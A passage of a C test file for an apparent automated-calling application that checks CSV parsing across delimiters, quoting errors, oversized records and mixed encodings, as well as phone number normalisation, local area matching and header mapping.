/* test-contacts.c — CSV reading, phone numbers, import, export and the DNC list
 *
 * SPDX-License-Identifier: GPL-3.0-or-later
 *
 * Every CSV is written at run time into a temporary folder: UTF-8, BOMs,
 * UTF-16 with BOM, and GBK with Chinese headers (converted with g_convert).
 */
#include "config.h"

#include <glib/gstdio.h>
#include <json-glib/json-glib.h>
#include <string.h>

#include "tb-consent.h"
#include "tb-contact-export.h"
#include "tb-contact-model.h"
#include "tb-contact-variables.h"
#include "tb-contact-mapping.h"
#include "tb-csv-reader.h"
#include "tb-region-guess.h"
#include "tb-import-job.h"
#include "tb-jurisdiction.h"
#include "tb-phone.h"
#include "tb-script.h"
#include "tb-store-config.h"
#include "tb-store-consent.h"
#include "tb-store-contacts.h"
#include "tb-store-dnc.h"

typedef struct {
  char    *dir;
  char    *db_path;
  TbStore *store;
} Fixture;

static void
remove_tree (const char *path)
{
  if (g_file_test (path, G_FILE_TEST_IS_DIR)) {
    g_autoptr(GDir) dir = g_dir_open (path, 0, NULL);
    const char *name;

    while (dir && (name = g_dir_read_name (dir)) != NULL) {
      g_autofree char *child = g_build_filename (path, name, NULL);
      remove_tree (child);
    }
    g_rmdir (path);
  } else {
    g_unlink (path);
  }
}

static void
fixture_set_up (Fixture       *f,
                gconstpointer  data)
{
  g_autoptr(GError) error = NULL;

  f->dir = g_dir_make_tmp ("telebot-contacts-XXXXXX", &error);
  g_assert_no_error (error);
  f->db_path = g_build_filename (f->dir, "telebot.db", NULL);
  f->store = tb_store_open (f->db_path, &error);
  g_assert_no_error (error);
}

static void
fixture_tear_down (Fixture       *f,
                   gconstpointer  data)
{
  g_assert_finalize_object (f->store);
  remove_tree (f->dir);
  g_free (f->db_path);
  g_free (f->dir);
}

static char *
write_file (Fixture    *f,
            const char *name,
            const char *data,
            gssize      len)
{
  g_autoptr(GError) error = NULL;
  char *path = g_build_filename (f->dir, name, NULL);

  g_file_set_contents (path, data, len, &error);
  g_assert_no_error (error);
  return path;
}

/* Reads every record of @path as "a|b|c@LINE" strings (problem rows get "!"). */
static GPtrArray *
read_all (const char *path,
          const char *encoding,
          char        delimiter,
          char      **out_encoding,
          char       *out_delimiter)
{
  g_autoptr(GError) error = NULL;
  g_autoptr(TbCsvReader) reader = tb_csv_reader_new_for_path (path, encoding, delimiter, &error);
  GPtrArray *rows = g_ptr_array_new_with_free_func (g_free);
  TbCsvResult r;

  g_assert_no_error (error);
  g_assert_nonnull (reader);
  while ((r = tb_csv_reader_next (reader, &error)) == TB_CSV_RECORD) {
    const char * const *fields;
    guint n;
    g_autofree char *joined = NULL;

    fields = tb_csv_reader_get_fields (reader, &n);
    g_assert_null (fields[n]);
    joined = g_strjoinv ("|", (char **) fields);
    g_ptr_array_add (rows, g_strdup_printf ("%s%s@%" G_GUINT64_FORMAT,
                                            tb_csv_reader_get_problem (reader) ? "!" : "",
                                            joined, tb_csv_reader_get_line (reader)));
  }
  g_assert_no_error (error);
  g_assert_cmpint (r, ==, TB_CSV_END);
  if (out_encoding)
    *out_encoding = g_strdup (tb_csv_reader_get_encoding (reader));
  if (out_delimiter)
    *out_delimiter = tb_csv_reader_get_delimiter (reader);
  return rows;
}

static void
assert_rows (GPtrArray          *rows,
             const char * const *expected)
{
  guint n = g_strv_length ((char **) expected);

  for (guint i = 0; i < MIN (n, rows->len); i++)
    g_assert_cmpstr (rows->pdata[i], ==, expected[i]);
  g_assert_cmpuint (rows->len, ==, n);
}

static void
test_csv_delimiters (Fixture       *f,
                     gconstpointer  data)
{
  static const struct {
    const char *text;
    char        delimiter;
  } cases[] = {
    { "name,phone,city\nAnn,123,\"Paris; FR\"\n", ',' },
    { "name;phone;city\nAnn;123;\"Paris, FR\"\n", ';' },
    { "name\tphone\tcity\nAnn\t123\t\"Paris, FR\"\n", '\t' },
    /* Semicolons win even when a comma appears inside a field. */
    { "name;phone;city\r\nAnn;123;Paris, FR\r\n", ';' },
  };

  for (guint i = 0; i < G_N_ELEMENTS (cases); i++) {
    g_autofree char *path = write_file (f, "d.csv", cases[i].text, -1);
    g_autoptr(GPtrArray) rows = NULL;
    char delimiter = 0;
    g_autofree char *detected_city = NULL;

    rows = read_all (path, NULL, 0, NULL, &delimiter);
    g_assert_cmpint (delimiter, ==, cases[i].delimiter);
    g_assert_cmpuint (rows->len, ==, 2);
    g_assert_cmpstr (rows->pdata[0], ==, "name|phone|city@1");
    g_assert_true (g_str_has_prefix (rows->pdata[1], "Ann|123|Paris"));
  }
}

static void
test_csv_quotes (Fixture       *f,
                 gconstpointer  data)
{
  const char *text =
    "a,b,c\n"
    "\"x, y\",\"say \"\"hi\"\"\",plain\n"
    "\"line one\nline two\",2,3\r\n"
    "\n"                              /* a blank line is skipped */
    "\"\",,\"\"\"\"\r\n"              /* empty quoted, empty, one quote */
    "last,row,\"crlf\r\ninside\"\n"
    "no,newline,at end";
  const char * const expected[] = {
    "a|b|c@1",
    "x, y|say \"hi\"|plain@2",
    "line one\nline two|2|3@3",
    "||\"@6",
    "last|row|crlf\r\ninside@7",
    "no|newline|at end@9",
    NULL
  };
  g_autofree char *path = write_file (f, "q.csv", text, -1);
  g_autoptr(GPtrArray) rows = read_all (path, NULL, 0, NULL, NULL);

  assert_rows (rows, expected);
}

static void
test_csv_unterminated (Fixture       *f,
                       gconstpointer  data)
{
  const char *text = "name,phone\nAnn,123\n\"Bob,456\nCarl,789\n";
  g_autofree char *path = write_file (f, "u.csv", text, -1);
  g_autoptr(GPtrArray) rows = read_all (path, NULL, 0, NULL, NULL);
  /* The quote opened on line 3 is rejected with its line; Carl is still read. */
  const char * const expected[] = {
    "name|phone@1",
    "Ann|123@2",
    "!Bob,456@3",
    "Carl|789@4",
    NULL
  };

  assert_rows (rows, expected);

  /* Only a quote: a problem row, no hang. */
  {
    g_autofree char *p2 = write_file (f, "u2.csv", "\"", -1);
    g_autoptr(GPtrArray) r2 = read_all (p2, NULL, 0, NULL, NULL);
    const char * const e2[] = { "!@1", NULL };

    assert_rows (r2, e2);
  }
}

/* Issue 19 §2: a quote left open swallows at most its own line. Past 100 lines
 * (or 64 KiB) after its line the record is rejected and reading resumes on the
 * line after the one where the quote opened. */
static void
test_csv_runaway_quote (Fixture       *f,
                        gconstpointer  data)
{
  g_autoptr(GString) text = g_string_new ("name,phone\nAnn,1\nBob,\"2\n");
  g_autoptr(GString) wide = g_string_new ("name,phone\n\"Wide,1\n");
  g_autofree char *path = NULL;
  g_autofree char *wide_path = NULL;
  g_autofree char *closed_path = NULL;
  g_autoptr(GPtrArray) rows = NULL;
  g_autoptr(GPtrArray) wide_rows = NULL;
  g_autoptr(GPtrArray) closed_rows = NULL;

  for (guint i = 0; i < 150; i++)
    g_string_append_printf (text, "C%u,%u\n", i, i);
  g_string_append (text, "Zed,9\n");
  path = write_file (f, "runaway.csv", text->str, text->len);
  rows = read_all (path, NULL, 0, NULL, NULL);
  g_assert_cmpuint (rows->len, ==, 2 + 1 + 150 + 1);
  g_assert_cmpstr (rows->pdata[1], ==, "Ann|1@2");
  g_assert_cmpstr (rows->pdata[2], ==, "!Bob|2@3");
  g_assert_cmpstr (rows->pdata[3], ==, "C0|0@4");
  g_assert_cmpstr (rows->pdata[152], ==, "C149|149@153");
  g_assert_cmpstr (rows->pdata[153], ==, "Zed|9@154");

  /* Fewer than 100 lines, but more than 64 KiB of them. */
  for (guint i = 0; i < 70; i++) {
    g_string_append_printf (wide, "W%u,", i);
    for (guint k = 0; k < 100; k++)
      g_string_append (wide, "0123456789");
    g_string_append_c (wide, '\n');
  }
  wide_path = write_file (f, "wide.csv", wide->str, wide->len);
  wide_rows = read_all (wide_path, NULL, 0, NULL, NULL);
  g_assert_cmpuint (wide_rows->len, ==, 2 + 70);
  g_assert_cmpstr (wide_rows->pdata[1], ==, "!Wide,1@2");
  g_assert_true (g_str_has_prefix (wide_rows->pdata[2], "W0|0123"));
  g_assert_true (g_str_has_suffix (wide_rows->pdata[71], "@72"));

  /* A field that spans lines and closes with text after its quote is a
   * stray quote too: the rows it ran over are read again. */
  closed_path = write_file (f, "closed.csv", "Ann,\"1\nBob,2\nCee,\"3\nDee,4\n", -1);
  closed_rows = read_all (closed_path, NULL, 0, NULL, NULL);
  {
    const char * const expected[] = { "!Ann|1@1", "Bob|2@2", "!Cee|3@3", "Dee|4@4", NULL };

    assert_rows (closed_rows, expected);
  }
}

/* A line over 1 MiB is one rejected row, its text kept whole for the rejects
 * file, and the reader carries on after it. A quote left open in a big file
 * (this test once expected it to swallow 3 MiB into one row) costs its line. */
static void
test_csv_huge_record (Fixture       *f,
                      gconstpointer  data)
{
  static const char line64[] = "012345678901234567890123456789012345678901234567890123456789012,";
  g_autoptr(GString) text = g_string_new ("a,b\n");
  g_autoptr(TbCsvReader) reader = NULL;
  g_autoptr(GError) error = NULL;
  g_autofree char *path = NULL;
  const char * const *fields;
  const char *line;
  guint n = 0, n_quoted = 3 * 1024 * 1024 / 64;
  gsize len = 0;

  for (guint i = 0; i < 2 * 1024 * 1024 / 64; i++)
    g_string_append (text, line64);
  g_string_append (text, "\nnext,row\n\"");
  for (guint i = 0; i < n_quoted; i++)
    g_string_append_printf (text, "%s\n", line64);
  g_string_append (text, "\",y\nlast,row\n");
  path = write_file (f, "huge.csv", text->str, text->len);

  reader = tb_csv_reader_new_for_path (path, NULL, 0, &error);
  g_assert_no_error (error);
  g_assert_cmpint (tb_csv_reader_next (reader, &error), ==, TB_CSV_RECORD);
  g_assert_null (tb_csv_reader_get_problem (reader));

  g_assert_cmpint (tb_csv_reader_next (reader, &error), ==, TB_CSV_RECORD);
  g_assert_cmpint (tb_csv_reader_get_problem_kind (reader), ==, TB_CSV_PROBLEM_TOO_LONG);
  g_assert_nonnull (strstr (tb_csv_reader_get_problem (reader), "longer than 1 MiB"));
  g_assert_cmpint (tb_csv_reader_get_line (reader), ==, 2);
  fields = tb_csv_reader_get_fields (reader, &n);
  g_assert_cmpuint (strlen (fields[0]), <=, 1024 * 1024);
  line = tb_csv_reader_get_text (reader, &len);
  g_assert_cmpuint (len, ==, 2 * 1024 * 1024);
  g_assert_true (g_str_has_prefix (line, line64));
  g_assert_true (g_str_has_suffix (line, line64));

  g_assert_cmpint (tb_csv_reader_next (reader, &error), ==, TB_CSV_RECORD);
  g_assert_null (tb_csv_reader_get_problem (reader));
  g_assert_cmpint (tb_csv_reader_get_line (reader), ==, 3);
  fields = tb_csv_reader_get_fields (reader, &n);
  g_assert_cmpuint (n, ==, 2);
  g_assert_cmpstr (fields[0], ==, "next");
  line = tb_csv_reader_get_text (reader, &len);
  g_assert_cmpstr (line, ==, "next,row");

  /* The open quote: its line is rejected whole, every line it ran over is read. */
  g_assert_cmpint (tb_csv_reader_next (reader, &error), ==, TB_CSV_RECORD);
  g_assert_cmpint (tb_csv_reader_get_problem_kind (reader), ==, TB_CSV_PROBLEM_QUOTE);
  g_assert_cmpint (tb_csv_reader_get_line (reader), ==, 4);
  g_assert_cmpint (tb_csv_reader_get_last_line (reader), ==, 4);
  line = tb_csv_reader_get_text (reader, &len);
  g_assert_cmpuint (len, ==, 65);
  g_assert_true (line[0] == '"' && g_str_has_suffix (line, line64));
  for (guint i = 1; i < n_quoted; i++) {
    g_assert_cmpint (tb_csv_reader_next (reader, &error), ==, TB_CSV_RECORD);
    if (tb_csv_reader_get_problem (reader) != NULL || tb_csv_reader_get_line (reader) != 4 + i)
      g_assert_cmpuint (i, ==, 0);
  }
  g_assert_cmpint (tb_csv_reader_next (reader, &error), ==, TB_CSV_RECORD);
  g_assert_cmpint (tb_csv_reader_get_problem_kind (reader), ==, TB_CSV_PROBLEM_QUOTE);
  g_assert_cmpint (tb_csv_reader_get_line (reader), ==, 4 + n_quoted);
  g_assert_cmpstr (tb_csv_reader_get_text (reader, NULL), ==, "\",y");
  g_assert_cmpint (tb_csv_reader_next (reader, &error), ==, TB_CSV_RECORD);
  g_assert_null (tb_csv_reader_get_problem (reader));
  g_assert_cmpint (tb_csv_reader_get_line (reader), ==, 5 + n_quoted);
  g_assert_cmpint (tb_csv_reader_next (reader, &error), ==, TB_CSV_END);
  g_assert_no_error (error);
}

/* Quoted newlines and CRLFs across the 64 KiB read boundary keep their line numbers. */
static void
test_csv_chunks (Fixture       *f,
                 gconstpointer  data)
{
  g_autoptr(GString) text = g_string_new ("id,note\r\n");
  g_autofree char *path = NULL;
  g_autoptr(GPtrArray) rows = NULL;
  guint64 line = 2;

  for (guint i = 0; i < 5000; i++)
    g_string_append_printf (text, "%u,\"note %u\r\nsecond, line \"\"%u\"\"\"\r\n", i, i, i);
  path = write_file (f, "big.csv", text->str, text->len);
  g_assert_cmpuint (text->len, >, 3 * 64 * 1024);

  rows = read_all (path, NULL, 0, NULL, NULL);
  g_assert_cmpuint (rows->len, ==, 5001);
  for (guint i = 0; i < 5000; i++, line += 2) {
    g_autofree char *expected = g_strdup_printf ("%u|note %u\r\nsecond, line \"%u\"@%"
                                                 G_GUINT64_FORMAT, i, i, i, line);
    g_assert_cmpstr (rows->pdata[i + 1], ==, expected);
  }
}

static char *
convert (const char *utf8,
         const char *to)
{
  g_autoptr(GError) error = NULL;
  gsize len = 0;
  char *out = g_convert (utf8, -1, to, "UTF-8", NULL, &len, &error);

  g_assert_no_error (error);
  return out;
}

static void
test_csv_encodings (Fixture       *f,
                    gconstpointer  data)
{
  const char *utf8 = "姓名,手机号,公司\r\n张伟,138 0013 8000,北京科技有限公司\r\n";
  const char * const expected[] = {
    "姓名|手机号|公司@1",
    "张伟|138 0013 8000|北京科技有限公司@2",
    NULL
  };
  g_autoptr(GError) error = NULL;
  gsize len16 = 0;
  g_autofree char *le = g_convert (utf8, -1, "UTF-16LE", "UTF-8", NULL, &len16, &error);
  g_autofree char *be = NULL;
  g_autofree char *gbk = convert (utf8, "GBK");
  g_autofree char *gb18030 = convert (utf8, "GB18030");
  g_autoptr(GByteArray) bytes = g_byte_array_new ();
  struct {
    const char *name;
    const char *forced;
    const char *detected;
  } cases[] = {
    { "utf8.csv", NULL, "utf-8" },
    { "utf8bom.csv", NULL, "utf-8-bom" },
    { "utf16le.csv", NULL, "utf-16le" },
    { "utf16be.csv", NULL, "utf-16be" },
    { "gbk.csv", NULL, "gb18030" },
    { "gbk.csv", "gbk", "gbk" },
    { "gb18030.csv", "gb18030", "gb18030" },
    { "utf16le.csv", "utf-16", "utf-16le" },
    { "utf8bom.csv", "utf-8", "utf-8-bom" },
  };
  gsize len_be = 0;

  g_assert_no_error (error);
  be = g_convert (utf8, -1, "UTF-16BE", "UTF-8", NULL, &len_be, &error);
  g_assert_no_error (error);
  /* GBK bytes are not UTF-8: auto-detection must not take them for it. */
  g_assert_false (g_utf8_validate (gbk, -1, NULL));

  g_free (write_file (f, "utf8.csv", utf8, -1));
  g_byte_array_append (bytes, (const guint8 *) "\xef\xbb\xbf", 3);
  g_byte_array_append (bytes, (const guint8 *) utf8, strlen (utf8));
  g_free (write_file (f, "utf8bom.csv", (const char *) bytes->data, bytes->len));
  g_byte_array_set_size (bytes, 0);
  g_byte_array_append (bytes, (const guint8 *) "\xff\xfe", 2);
  g_byte_array_append (bytes, (const guint8 *) le, len16);
  g_free (write_file (f, "utf16le.csv", (const char *) bytes->data, bytes->len));
  g_byte_array_set_size (bytes, 0);
  g_byte_array_append (bytes, (const guint8 *) "\xfe\xff", 2);
  g_byte_array_append (bytes, (const guint8 *) be, len_be);
  g_free (write_file (f, "utf16be.csv", (const char *) bytes->data, bytes->len));
  g_free (write_file (f, "gbk.csv", gbk, -1));
  g_free (write_file (f, "gb18030.csv", gb18030, -1));

  for (guint i = 0; i < G_N_ELEMENTS (cases); i++) {
    g_autofree char *path = g_build_filename (f->dir, cases[i].name, NULL);
    g_autofree char *encoding = NULL;
    g_autoptr(GPtrArray) rows = read_all (path, cases[i].forced, 0, &encoding, NULL);

    g_test_message ("%s forced=%s", cases[i].name, cases[i].forced);
    g_assert_cmpstr (encoding, ==, cases[i].detected);
    assert_rows (rows, expected);
  }

  /* Forcing the wrong encoding gives no crash; rows read as something else. */
  {
    g_autofree char *path = g_build_filename (f->dir, "gbk.csv", NULL);
    g_autoptr(GPtrArray) rows = read_all (path, "utf-8", 0, NULL, NULL);

    g_assert_cmpuint (rows->len, ==, 2);
    g_assert_true (((char *) rows->pdata[0])[0] == '!');   /* invalid UTF-8: a problem row */
  }
}

/* Issue 19 §2: one Latin-1 row made a UTF-8 file decode as GB18030 ("José
 * Müller" became "Jos茅 M眉ller"). A file that is UTF-8 in nearly every line is
 * UTF-8; the odd line is rejected and says what it looks like. */
static void
test_csv_mixed_encodings (Fixture       *f,
                          gconstpointer  data)
{
  static const char text[] =
    "name,phone,city\n"
    "José Müller,+1 202 555 0101,Zürich\n"
    "Åsa Öberg,+1 202 555 0102,Malmö\n"
    "Fran\xe7ois L\xe9ger,+1 202 555 0103,Montr\xe9" "al\n"  /* Latin-1 */
    "李雷,+1 202 555 0104,北京\n"
    "Nul\0Byte,+1 202 555 0105,Nowhere\n"                   /* a NUL byte */
    "Zoë Ærø,+1 202 555 0106,Tórshavn\n";
  g_autofree char *path = write_file (f, "mixed.csv", text, sizeof text - 1);
  g_autoptr(TbCsvReader) reader = NULL;
  g_autoptr(GError) error = NULL;
  g_autoptr(GPtrArray) rows = NULL;
  g_autofree char *encoding = NULL;
  g_autofree char *sample = NULL;
  g_auto(GStrv) candidates = NULL;
  guint n = 0;

  rows = read_all (path, NULL, 0, &encoding, NULL);
  g_assert_cmpstr (encoding, ==, "utf-8");
  g_assert_cmpuint (rows->len, ==, 7);
  g_assert_cmpstr (rows->pdata[1], ==, "José Müller|+1 202 555 0101|Zürich@2");
  g_assert_cmpstr (rows->pdata[2], ==, "Åsa Öberg|+1 202 555 0102|Malmö@3");
  g_assert_true (((char *) rows->pdata[3])[0] == '!');
  g_assert_cmpstr (rows->pdata[4], ==, "李雷|+1 202 555 0104|北京@5");
  g_assert_true (((char *) rows->pdata[5])[0] == '!');
  g_assert_cmpstr (rows->pdata[6], ==, "Zoë Ærø|+1 202 555 0106|Tórshavn@7");

  reader = tb_csv_reader_new_for_path (path, NULL, 0, &error);
  g_assert_no_error (error);
  /* Not every line agrees: a guess, with a sample the user can judge. */
  g_assert_false (tb_csv_reader_is_encoding_certain (reader));
  candidates = tb_csv_reader_dup_candidates (reader);
  g_assert_cmpstrv (candidates, ((const char * const[]) { "utf-8", "gb18030", "latin-1", NULL }));
  sample = tb_csv_reader_dup_sample (reader, "utf-8");
  g_assert_cmpstr (sample, ==, "José Müller,+1 202 555 0101,Zürich");
  g_free (sample);
  sample = tb_csv_reader_dup_sample (reader, "gb18030");
  g_assert_cmpstr (sample, ==, "Jos茅 M眉ller,+1 202 555 0101,Z眉rich");   /* the bug, shown */
  g_free (sample);
  sample = tb_csv_reader_dup_sample (reader, "latin-1");
  g_assert_cmpstr (sample, ==, "JosÃ© MÃ¼ller,+1 202 555 0101,ZÃ¼rich");
  while (tb_csv_reader_next (reader, &error) == TB_CSV_RECORD) {
    n++;
    if (n == 4)
      g_assert_cmpstr (tb_csv_reader_get_problem (reader), ==,
                       "not valid UTF-8 (looks like Latin-1)");
    else if (n == 6)
      g_assert_cmpstr (tb_csv_reader_get_problem (reader), ==, "the row holds a NUL byte");
    else
      g_assert_null (tb_csv_reader_get_problem (reader));
  }
  g_assert_no_error (error);
  g_assert_cmpuint (n, ==, 7);
}

/* The Latin-1 row far into a UTF-8 file (past what detection samples). */
static void
test_csv_late_latin1 (Fixture       *f,
                      gconstpointer  data)
{
  g_autoptr(GString) text = g_string_new ("name,phone\n");
  g_autoptr(TbCsvReader) reader = NULL;
  g_autoptr(GError) error = NULL;
  g_autofree char *path = NULL;
  guint n = 0, problems = 0;

  for (guint i = 0; i < 50000; i++)
    g_string_append_printf (text, "%s %u,+1 202 555 %04u\n", i == 31000 ? "J\xf6rg" : "Jörg",
                            i, i % 10000);
  path = write_file (f, "late.csv", text->str, text->len);
  reader = tb_csv_reader_new_for_path (path, NULL, 0, &error);
  g_assert_no_error (error);
  g_assert_cmpstr (tb_csv_reader_get_encoding (reader), ==, "utf-8");
  while (tb_csv_reader_next (reader, &error) == TB_CSV_RECORD) {
    n++;
    if (tb_csv_reader_get_problem (reader) != NULL) {
      problems++;
      g_assert_cmpint (tb_csv_reader_get_line (reader), ==, 31002);
      g_assert_cmpstr (tb_csv_reader_get_problem (reader), ==,
                       "not valid UTF-8 (looks like Latin-1)");
    }
  }
  g_assert_cmpuint (n, ==, 50001);
  g_assert_cmpuint (problems, ==, 1);
}

/* Genuine Latin-1 (Windows-1252) files are read as such; two BOMs do not
 * glue the second to the first column's name. */
static void
test_csv_latin1_and_double_bom (Fixture       *f,
                                gconstpointer  data)
{
  static const char latin1[] =
    "name,city\n"
    "Jos\xe9,S\xe3o Paulo\n"
    "Fran\xe7ois,Montr\xe9" "al\n"
    "M\xfcller,K\xf6ln\n"
    "\x93Quoted\x94,Caf\xe9\n";
  const char * const expected[] = {
    "name|city@1",
    "José|São Paulo@2",
    "François|Montréal@3",
    "Müller|Köln@4",
    "“Quoted”|Café@5",
    NULL
  };
  g_autofree char *path = write_file (f, "latin1.csv", latin1, sizeof latin1 - 1);
  g_autofree char *bom2 = write_file (f, "bom2.csv",
                                      "\xef\xbb\xbf\xef\xbb\xbfname,phone\nAnn,1\n", -1);
  g_autofree char *encoding = NULL;
  g_autoptr(GPtrArray) rows = read_all (path, NULL, 0, &encoding, NULL);
  g_autoptr(GPtrArray) bom_rows = NULL;
  const char * const bom_expected[] = { "name|phone@1", "Ann|1@2", NULL };

  g_assert_cmpstr (encoding, ==, "latin-1");
  assert_rows (rows, expected);

  g_clear_pointer (&encoding, g_free);
  bom_rows = read_all (bom2, NULL, 0, &encoding, NULL);
  g_assert_cmpstr (encoding, ==, "utf-8-bom");
  assert_rows (bom_rows, bom_expected);
}

/* Where a number rings, for the caller-number pool's local-first rule. */
static void
test_phone_area_key (void)
{
  static const struct {
    const char *e164;
    const char *key;
  } cases[] = {
    /* NANP: the area code. */
    { "+12125550100", "1:212" },
    { "+14155550100", "1:415" },
    /* A UK fixed line: its area code; a UK mobile: only its country. */
    { "+442079460018", "44:20" },
    { "+447400123456", "44" },
#if HAVE_GEOCODING
    /* Chinese fixed lines and mobiles: the city libphonenumber's geocoding data gives. */
    { "+861065529988", "86:Beijing" },
    { "+862161234567", "86:Shanghai" },
    { "+8613800138000", "86:Beijing" },
    { "+8613912345678", "86:Changzhou, Jiangsu" },
#else
    /* Without it: a fixed line's area code, a mobile's country. */
    { "+861065529988", "86:10" },
    { "+862161234567", "86:21" },
    { "+8613800138000", "86" },
#endif
  };

  for (guint i = 0; i < G_N_ELEMENTS (cases); i++) {
    g_autofree char *key = tb_phone_dup_area_key (cases[i].e164);

    g_test_message ("%s", cases[i].e164);
    g_assert_cmpstr (key, ==, cases[i].key);
  }
  g_assert_null (tb_phone_dup_area_key ("+1212"));
  g_assert_null (tb_phone_dup_area_key (NULL));

  {
    g_autofree char *ny = tb_phone_dup_area_key ("+12125550100");
    g_autofree char *ny2 = tb_phone_dup_area_key ("+12125550199");
    g_autofree char *sf = tb_phone_dup_area_key ("+14155550100");
    g_autofree char *beijing = tb_phone_dup_area_key ("+861065529988");
    g_autofree char *shanghai = tb_phone_dup_area_key ("+862161234567");
    g_autofree char *beijing_mobile = tb_phone_dup_area_key ("+8613800138000");
    g_autofree char *london = tb_phone_dup_area_key ("+442079460018");
    g_autofree char *uk_mobile = tb_phone_dup_area_key ("+447400123456");

    g_assert_true (tb_phone_area_is_local (ny, ny2));
    g_assert_false (tb_phone_area_is_local (ny, sf));
    g_assert_false (tb_phone_area_is_local (beijing, shanghai));
    g_assert_false (tb_phone_area_is_local (shanghai, beijing_mobile));
#if HAVE_GEOCODING
    /* A Beijing mobile is local to a Beijing fixed line. */
    g_assert_true (tb_phone_area_is_local (beijing_mobile, beijing));
#endif
    /* A mobile tells only its country: a number of that country is as local as it gets. */
    g_assert_true (tb_phone_area_is_local (uk_mobile, london));
    g_assert_true (tb_phone_area_is_local (london, uk_mobile));
    g_assert_false (tb_phone_area_is_local (uk_mobile, ny));
    g_assert_false (tb_phone_area_is_local (ny, NULL));
    /* "1" is not the country of "12…" keys that happen to start with it. */
    g_assert_false (tb_phone_area_is_local ("1", "12:20"));
  }
}

static void
test_phone_e164 (void)
{
  static const struct {
    const char *raw;
    const char *region;
    const char *e164;     /* NULL: rejected */
    const char *country;
    const char *type;
  } cases[] = {
    /* China: mobile in every written form, fixed line with trunk 0. */
    { "13800138000", "CN", "+8613800138000", "CN", "mobile" },
    { "138 0013 8000", "CN", "+8613800138000", "CN", "mobile" },
    { "+86 138-0013-8000", "CN", "+8613800138000", "CN", "mobile" },
    { "008613800138000", "CN", "+8613800138000", "CN", "mobile" },
    { "8613800138000", "CN", "+8613800138000", "CN", "mobile" },
    { "+86 138 0013 8000", "US", "+8613800138000", "CN", "mobile" },
    { "010-6552-9988", "CN", "+861065529988", "CN", "fixed" },
    { "(021) 6123 4567", "CN", "+862161234567", "CN", "fixed" },
    /* US: formatting, 1 prefix, +1, 00 and 011. */
    { "(202) 555-0101", "US", "+12025550101", "US", "fixed_or_mobile" },
    { "202.555.0101", "US", "+12025550101", "US", "fixed_or_mobile" },
    { "1-202-555-0101", "US", "+12025550101", "US", "fixed_or_mobile" },
    { "+1 202 555 0101", "CN", "+12025550101", "US", "fixed_or_mobile" },
    { "0012025550101", "US", "+12025550101", "US", "fixed_or_mobile" },
    { "011 44 20 7946 0018", "US", "+442079460018", "GB", "fixed" },
    /* UK: trunk 0, 44 without plus, 00 from the rest of Europe. */
    { "020 7946 0018", "GB", "+442079460018", "GB", "fixed" },
    { "07400 123456", "GB", "+447400123456", "GB", "mobile" },
    { "442079460018", "GB", "+442079460018", "GB", "fixed" },
    { "0044 20 7946 0018", "DE", "+442079460018", "GB", "fixed" },
    /* Germany and France. */
    { "030 901820", "DE", "+4930901820", "DE", "fixed" },
    { "01512 3456789", "DE", "+4915123456789", "DE", "mobile" },
    { "+49 (0)30 901820", "DE", "+4930901820", "DE", "fixed" },
    { "01 23 45 67 89", "FR", "+33123456789", "FR", "fixed" },
    { "06 12 34 56 78", "FR", "+33612345678", "FR", "mobile" },
    { "0033612345678", "FR", "+33612345678", "FR", "mobile" },
    { "33 6 12 34 56 78", "FR", "+33612345678", "FR", "mobile" },
    /* Invalid. */
    { "", "US", NULL, NULL, NULL },
    { "   ", "US", NULL, NULL, NULL },
    { "12ab", "US", NULL, NULL, NULL },
    { "hello", "CN", NULL, NULL, NULL },
    { "123", "CN", NULL, NULL, NULL },
    { "13800138000", "US", NULL, NULL, NULL },       /* a CN mobile is no US number */
    { "+1 000 555 0101", "US", NULL, NULL, NULL },
    { "1380013800", "CN", NULL, NULL, NULL },        /* one digit short */
  };

  for (guint i = 0; i < G_N_ELEMENTS (cases); i++) {
    g_autoptr(GError) error = NULL;
    TbPhoneNumber number;
    gboolean ok = tb_phone_normalize (cases[i].raw, cases[i].region, &number, &error);

    g_test_message ("“%s” in %s", cases[i].raw, cases[i].region);
    if (cases[i].e164 == NULL) {
      g_assert_false (ok);
      g_assert_error (error, TB_PHONE_ERROR, error->code);
      g_assert_nonnull (error->message);
      continue;
    }
    g_assert_no_error (error);
    g_assert_true (ok);
    g_assert_cmpstr (number.e164, ==, cases[i].e164);
    g_assert_cmpstr (number.country, ==, cases[i].country);
    g_assert_cmpstr (number.number_type, ==, cases[i].type);
  }

  {
    TbPhoneNumber number;

    g_autofree char *cn_zone = NULL, *us_zone = NULL;

    /* The zone an import derives for a number without one in the file. */
    g_assert_true (tb_phone_normalize ("13800138000", "cn", &number, NULL));
    cn_zone = tb_jurisdiction_dup_timezone (number.e164);
    g_assert_cmpstr (cn_zone, ==, "Asia/Shanghai");
    g_assert_true (tb_phone_normalize ("2025550101", "US", &number, NULL));
    us_zone = tb_jurisdiction_dup_timezone (number.e164);
    g_assert_cmpstr (us_zone, ==, "America/New_York");
    g_assert_true (tb_phone_is_known_region ("DE"));
    g_assert_false (tb_phone_is_known_region ("XX"));
  }
}

static TbContactMapping *
mapping_for (const char * const *cells)
{
  return tb_contact_mapping_new_from_first_row (cells, g_strv_length ((char **) cells));
}

static void
test_mapping (void)
{
  const char * const english[] = { "Full Name", "Mobile", "Company", "E-mail", "Time Zone",
                                   "persona", "City", NULL };
  const char * const chinese[] = { "城市", "联系人", "联系电话", "单位", "邮箱", "时区", NULL };
  const char * const tel[] = { "Tel", "姓名", "公司", NULL };
  const char * const data_row[] = { "Ann", "Acme", "+1 202 555 0101", NULL };
  const char * const unknown[] = { "Who", "Number", "Where", NULL };
  g_autoptr(TbContactMapping) en = mapping_for (english);
  g_autoptr(TbContactMapping) zh = mapping_for (chinese);
  g_autoptr(TbContactMapping) t = mapping_for (tel);
  g_autoptr(TbContactMapping) none = mapping_for (data_row);
  g_autoptr(TbContactMapping) other = mapping_for (unknown);
  g_autoptr(GError) error = NULL;

  g_assert_true (tb_contact_mapping_has_header (en));
  g_assert_cmpint (tb_contact_mapping_get_column (en, TB_CONTACT_FIELD_NAME), ==, 0);
  g_assert_cmpint (tb_contact_mapping_get_column (en, TB_CONTACT_FIELD_PHONE), ==, 1);
  g_assert_cmpint (tb_contact_mapping_get_column (en, TB_CONTACT_FIELD_COMPANY), ==, 2);
  g_assert_cmpint (tb_contact_mapping_get_column (en, TB_CONTACT_FIELD_EMAIL), ==, 3);
  g_assert_cmpint (tb_contact_mapping_get_column (en, TB_CONTACT_FIELD_TIMEZONE), ==, 4);
  g_assert_cmpint (tb_contact_mapping_get_column (en, TB_CONTACT_FIELD_PERSONA), ==, 5);
  g_assert_true (tb_contact_mapping_is_custom (en, 6));
